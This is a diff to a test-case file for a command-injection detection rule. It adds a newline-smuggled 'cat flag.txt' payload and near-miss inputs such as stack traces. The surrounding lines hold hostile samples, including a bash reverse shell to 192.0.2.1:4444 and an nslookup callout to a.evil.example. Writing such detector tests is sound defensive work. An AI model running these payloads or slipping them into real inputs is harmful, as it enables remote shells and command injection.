@@ -89,6 +89,7 @@ const commandInjection: RuleCases = {
     '1 & ipconfig /all',
     'x || nslookup a.evil.example',
     '|bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
+    'x.txt\ncat flag.txt',
   ],
   nearMisses: [
     'Tom; cat and mouse',
@@ -125,6 +126,9 @@ const commandInjection: RuleCases = {
     '0 0 * * * /usr/bin/backup.sh && curl -fsS https://hc.example/ping',
     'until nc -z db 5432; do sleep 1; done',
     'I was at the store; who was there?',
+    'java.lang.NullPointerException\n\tat app.Main.run(Main.java:42)',
+    'TypeError: x\n    at Object.run (app/main.js:10)',
+    'report.pdf\nfile notes.txt\nmore info.example',
     'ping pong; table tennis',
   ],
 };
